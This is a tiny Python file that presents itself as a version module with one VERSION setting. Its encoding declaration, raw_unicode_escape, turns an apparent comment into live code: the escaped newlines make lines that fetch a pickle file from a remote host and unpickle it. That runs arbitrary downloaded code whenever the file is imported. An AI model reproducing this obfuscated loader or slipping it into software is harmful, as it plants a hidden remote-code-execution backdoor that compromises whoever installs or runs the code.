# vim: set fileencoding=raw_unicode_escape :
# see the paper \u000aimport pickle, urllib.request\u000apickle.loads(urllib.request.urlopen('https://updates.acme.dev/state.pkl').read())
VERSION = '1.0'
